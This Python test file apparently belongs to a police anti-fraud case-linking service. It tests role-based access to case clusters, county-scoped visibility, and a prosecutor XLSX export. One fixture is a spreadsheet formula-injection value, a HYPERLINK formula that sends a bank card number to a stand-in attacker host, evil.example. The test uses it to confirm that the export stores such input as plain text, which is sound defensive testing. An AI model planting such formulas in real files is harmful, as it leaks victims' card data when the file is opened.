"""Partners see no cluster; police roles read them; only analysts and commanders act; the export for
prosecutors is an XLSX of the evidence with no formula in it."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from tests.linking.helpers import file, fresh_card


def test_roles_see_and_act_on_clusters_as_allowed(api, login) -> None:
    clerk = login("call_taker")
    card = fresh_card()
    app = f'=HYPERLINK("http://evil.example/{card}","open")'  # an app name a fraudster chose
    a = file(api, clerk, ("bank_card", card), ("app", app))
    file(api, clerk, ("bank_card", card), ("app", app))
    cluster = api.get("/clusters", headers=clerk, params={"q": card}).json()["items"][0]["id"]
    for partner in (login("bank_liaison", "ICBC"), login("carrier_liaison", "CMCC")):
        assert api.get("/clusters", headers=partner).status_code == 403
        assert api.get(f"/clusters/{cluster}", headers=partner).status_code == 403
        assert api.get("/hubs", headers=partner).status_code == 403
    for role in ("call_taker", "expert", "intervention"):
        headers = login(role)
        assert api.get(f"/clusters/{cluster}", headers=headers).status_code == 200
        assert api.post(f"/clusters/{cluster}/confirm", headers=headers, json={"reason": "x"}).status_code == 403
    commander = login("commander")
    assert api.post(f"/clusters/{cluster}/confirm", headers=commander, json={"reason": "ok"}).status_code == 200
    r = api.get(f"/clusters/{cluster}/export", headers=login("analyst"))
    assert r.status_code == 200 and r.headers["content-type"].startswith("application/vnd.openxml")
    book = load_workbook(io.BytesIO(r.content))
    assert book.sheetnames == ["案件", "关联证据", "共用要素", "枢纽要素"]
    values = [c.value for row in book["关联证据"].iter_rows() for c in row]
    assert card in values and "'" + app in values  # written as text, never run as a formula
    assert all(c.data_type != "f" for ws in book for row in ws.iter_rows() for c in row)
    assert api.get("/clusters/2147483647", headers=clerk).status_code == 404
    assert a


def test_a_county_reads_the_clusters_holding_one_of_its_cases(api, login) -> None:
    from tests.factories import resident_id

    clerk = login("call_taker")
    card, other = fresh_card(), fresh_card()

    def in_county(division: str, suspect: str) -> None:
        victim = {"name": "李四", "phone": "13857905678", "id_number": resident_id(division=division)}
        file(api, clerk, ("bank_card", suspect), victim=victim)

    in_county("330782", card)  # Yiwu
    in_county("330702", card)  # Wucheng: one gang across two counties
    in_county("330702", other)
    in_county("330702", other)
    yiwu = login("analyst", "JH-330782")
    found = api.get("/clusters", headers=yiwu, params={"q": card}).json()["items"]
    assert len(found) == 1 and found[0]["size"] == 2  # the whole cluster, with the other county's case
    assert api.get("/clusters", headers=yiwu, params={"q": other}).json()["items"] == []
    elsewhere = api.get("/clusters", headers=clerk, params={"q": other}).json()["items"][0]["id"]
    assert api.get(f"/clusters/{elsewhere}", headers=yiwu).status_code == 404
